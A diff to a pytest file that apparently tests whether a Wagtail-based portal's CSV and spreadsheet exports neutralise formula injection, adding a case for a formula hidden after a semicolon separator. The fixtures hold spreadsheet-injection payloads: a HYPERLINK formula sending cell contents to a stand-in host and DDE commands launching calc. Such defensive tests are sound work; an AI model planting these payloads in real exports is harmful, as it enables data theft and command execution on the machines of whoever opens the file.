@@ -12,6 +12,7 @@ spreadsheet the portal offers, Wagtail's own reports included, gives back cells 
 import csv
 import io
 import random
+import re
 import zipfile
 
 import pytest
@@ -41,6 +42,9 @@ HYPERLINK = '=HYPERLINK("http://x.example/?d="&A1,"Bấm vào đây")'
 COMMAND = "+cmd|' /C calc'!A0"
 ARITHMETIC = "-1+1"
 SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
+# Opened where ";" separates cells (a decimal-comma locale), this is two cells, one a formula.
+SEPARATED = "Đã đọc;=1+1"
+FORMULA_AFTER_A_SEPARATOR = re.compile(r";[=+\-@\t\r]")
 
 
 # -- documents --------------------------------------------------------------------------------
@@ -312,6 +316,7 @@ def hostile_data():
         COMMAND: (cr_cell, SUM + "\x0b thu hoạch"),
         ARITHMETIC: (tab_cell, HYPERLINK),
         "Lê Văn\x07 Chuông": (tab_cell, "Đã đọc\x1b kỹ"),
+        "Trần Văn Chấm": (tab_cell, SEPARATED),
     }
     for name, (cell, takeaway) in readers.items():
         reader = factories.UserFactory(full_name=name, party_cell=cell)
@@ -336,7 +341,13 @@ EXPORTS = {
     "wagtailadmin_reports:workflow": ["'" + HYPERLINK, "'" + SUM],
     "wagtailadmin_reports:workflow_tasks": ["'" + HYPERLINK, "'" + SUM],
     "wagtailredirects:index": ["'" + ARITHMETIC],
-    "acknowledgement_export": ["'" + COMMAND, "'" + ARITHMETIC, "'\t=1+1 Chi bộ", "'" + HYPERLINK],
+    "acknowledgement_export": [
+        "'" + COMMAND,
+        "'" + ARITHMETIC,
+        "'\t=1+1 Chi bộ",
+        "'" + HYPERLINK,
+        "Đã đọc;'=1+1",
+    ],
 }
 
 
@@ -354,6 +365,7 @@ def test_exports_give_formulas_back_as_text(client, hostile_data, name, export_f
     assert response.status_code == 200
     cells = [cell for cell in cells_of(response, export_format) if isinstance(cell, str)]
     assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
+    assert [cell for cell in cells if FORMULA_AFTER_A_SEPARATOR.search(cell)] == []
     for expected in EXPORTS[name]:
         assert any(cell.startswith(expected) for cell in cells), (expected, cells[:40])
 
